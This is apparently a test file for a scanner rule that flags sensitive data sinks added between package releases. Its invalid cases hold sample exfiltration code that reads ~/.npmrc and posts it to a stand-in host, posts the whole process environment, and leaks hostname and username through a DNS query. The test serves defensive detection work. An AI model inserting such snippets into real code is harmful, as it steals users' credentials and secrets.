// sensitive-sink on small before/after pairs: what a release adds is reported; what was already
// there (under other names) or is ordinary stays silent.
import { describe } from 'vitest';
import sensitiveSink from '../../../../src/classify/code/rules/sensitive-sink.js';
import { codeRuleTester } from '../../../helpers/code-rule-tester.js';

/** Code both sides share, so the added code is a release's addition, not a new file. */
const OLD = 'function a0(n){return n+1}function b0(n){return a0(n)*2}';

describe('sensitive-sink', () => {
  codeRuleTester(sensitiveSink, {
    valid: [
      { name: 'a token sent to its own API', before: OLD, after: OLD + 'function s(u){return fetch(u,{headers:{Authorization:"Bearer "+process.env.GITHUB_TOKEN}})}' },
      { name: 'environment passed to a child process', before: OLD, after: OLD + 'function s(){return require("child_process").spawn("node",["x.js"],{env:{...process.env,A:"1"}})}' },
    ],
    invalid: [
      {
        name: '.npmrc posted',
        before: OLD,
        after: OLD + 'const fs=require("fs"),os=require("os"),p=require("path");function s(){let t=fs.readFileSync(p.join(os.homedir(),".npmrc"),"utf8");fetch("https://collector.example.net/x",{method:"POST",body:t})}',
        findings: [{ severity: 'critical', message: /npmrc/ }],
      },
      { name: 'the whole environment posted', before: OLD, after: OLD + 'function s(u){return fetch(u,{method:"POST",body:JSON.stringify(process.env)})}', findings: [{ severity: 'critical' }] },
      { name: 'host identity in a DNS query', before: OLD, after: OLD + 'const os=require("os"),dns=require("dns");function s(){dns.lookup(`${os.hostname()}.${os.userInfo().username}.x.example.net`,()=>{})}', findings: [{ atLeast: 'high' }] },
    ],
  });
});
